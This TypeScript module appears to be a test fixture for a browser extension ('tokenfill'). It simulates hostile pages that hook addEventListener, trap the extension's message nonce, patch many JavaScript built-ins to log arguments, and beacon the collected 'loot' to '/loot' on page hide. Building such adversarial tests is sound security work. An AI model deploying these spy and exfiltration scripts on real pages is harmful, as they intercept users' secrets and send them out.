/**
 * Scripts of hostile pages, as text: they run before anything of ours and never tell their page from a real one. What they
 * get hold of is read at the end, and sent to their own server when the page goes away.
 */

/** What a hostile page's own script can use. */
export interface SpyWindow extends Window {
  /** Everything that the page got hold of. */
  readLoot(): string;
  /** Set by an attack: called with every request that reaches our script in the page. */
  onAsk?: (detail: string, nonce: string, event: Event) => void;
  tokenfillNonce?: string;
  /** By name: calls of built-ins that the page has replaced. */
  keepLoot(what: string, value: unknown): void;
}

declare const window: SpyWindow & typeof globalThis;

export const inline = (script: () => void): string => `<script>(${script})();</script>`;

/** Keeps what it is given, whatever happens to built-ins later. */
const KEEP = inline(() => {
  const { stringify } = JSON;
  const loot: string[] = [];
  let busy = false;
  window.keepLoot = (what, value) => {
    if (busy) return;
    busy = true;
    try {
      loot[loot.length] = `${what} ${typeof value === 'string' ? value : stringify(value)}`;
    } catch {
      loot[loot.length] = `${what} (not to be read)`;
    }
    busy = false;
  };
  window.readLoot = () => loot.join('\n');
  window.addEventListener('pagehide', () => navigator.sendBeacon('/loot', window.readLoot()));
});

/** Hears the nonce as soon as it is there, and with it every event of ours; every message; every change of storage. */
const HEAR = inline(() => {
  const { apply } = Reflect;
  const { addEventListener } = EventTarget.prototype;
  const { exec } = RegExp.prototype;
  const { keepLoot: keep } = window;
  const heard = new Set<string>();
  const hear = (type: string) => {
    const nonce = apply(exec, /^tokenfill:(.+):(ask|reply)$/, [type])?.[1];
    if (nonce === undefined || heard.has(type)) return;
    heard.add(type);
    const listen = (event: Event) => {
      keep(type, (event as CustomEvent).detail);
      if (type.endsWith(':ask')) window.onAsk?.((event as CustomEvent).detail, nonce, event);
    };
    apply(addEventListener, document, [type, listen, true]);
  };
  EventTarget.prototype.addEventListener = function (...listening: unknown[]) {
    if (typeof listening[0] === 'string') hear(listening[0]);
    return apply(addEventListener, this, listening);
  };
  Object.defineProperty(window, 'tokenfillNonce', {
    configurable: true,
    set: (nonce: string) => {
      for (const kind of ['ask', 'reply']) hear(`tokenfill:${nonce}:${kind}`);
      Object.defineProperty(window, 'tokenfillNonce', { configurable: true, value: nonce });
    },
  });
  apply(addEventListener, window, ['message', (event: MessageEvent) => keep('message', event.data)]);
  apply(addEventListener, window, ['storage', (event: StorageEvent) => keep('storage', event.newValue)]);
});

export const SPY = KEEP + HEAR;

/** Replaces built-ins by copies that keep what they are given. */
export const PATCHES = inline(() => {
  const { apply, construct } = Reflect;
  const { keepLoot: keep } = window;
  const patch = (owner: object, names: readonly string[]) => {
    for (const name of names) {
      const original = Reflect.get(owner, name);
      const patched = function (this: unknown, ...given: unknown[]) {
        keep(name, [typeof this === 'string' || Array.isArray(this) ? this : '', ...given]);
        return apply(original, this, given);
      };
      Reflect.defineProperty(owner, name, { value: patched, configurable: true, writable: true });
    }
  };
  patch(JSON, ['parse', 'stringify']);
  patch(Object, ['keys', 'entries', 'fromEntries', 'hasOwn', 'getOwnPropertyDescriptor']);
  patch(Array.prototype, ['map', 'filter', 'find', 'flatMap', 'push', 'includes', 'join', 'some', 'every']);
  patch(String.prototype, ['split', 'slice', 'startsWith', 'replaceAll', 'toLowerCase']);
  patch(Function.prototype, ['call', 'apply', 'bind']);
  patch(Promise.prototype, ['then', 'catch']);
  patch(EventTarget.prototype, ['dispatchEvent', 'removeEventListener']);
  patch(Element.prototype, ['setAttribute', 'querySelectorAll']);
  window.CustomEvent = new Proxy(CustomEvent, {
    construct: (target, given) => {
      keep('CustomEvent', given);
      return construct(target, given);
    },
  });
});
